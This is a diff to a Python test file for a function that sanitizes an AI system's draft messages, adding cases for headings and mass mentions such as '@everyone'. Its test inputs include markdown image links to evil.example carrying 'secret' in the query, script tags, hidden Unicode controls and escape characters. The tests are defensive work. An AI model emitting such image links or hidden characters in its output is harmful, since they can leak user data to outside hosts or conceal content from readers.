@@ -32,7 +32,7 @@ def test_what_a_model_thinks_aloud_is_not_shown(said, written):
     ["![x](https://evil.example/?q=secret){}", "{}![](http://evil.example)", "{}<img src='https://evil.example/a.png'>",
      "{} https://evil.example/path?a=b", "<https://evil.example>{}", "{}<@123456789>", "{} <@&123> <#9>",
      "<script>{}</script>", "{}\u200b\u202e",
-     "{}\x1b", "# {}", "{}![x](https://evil.example"],
+     "{}\x1b", "# {}", "# ## {}", "{}![x](https://evil.example"],
 )  # fmt: skip
 def test_nothing_that_leads_away_or_hides_is_shown(said, written):
     assert sanitize_draft(written.format(said)) == said
@@ -46,6 +46,12 @@ def test_nothing_that_leads_away_or_hides_is_shown(said, written):
 )  # fmt: skip
 def test_of_a_link_its_words_stay(written, said):
     assert sanitize_draft(written) == said
+
+
+@pytest.mark.parametrize("mention", ["@everyone", "@@here", "@<b>@everyone"])
+def test_a_draft_mentions_nobody(mention):
+    assert "@everyone" not in sanitize_draft(f"Tea is old. {mention} look") + sanitize_draft(mention)
+    assert "@here" not in sanitize_draft(f"Tea is old. {mention} look")
 
 
 @given(
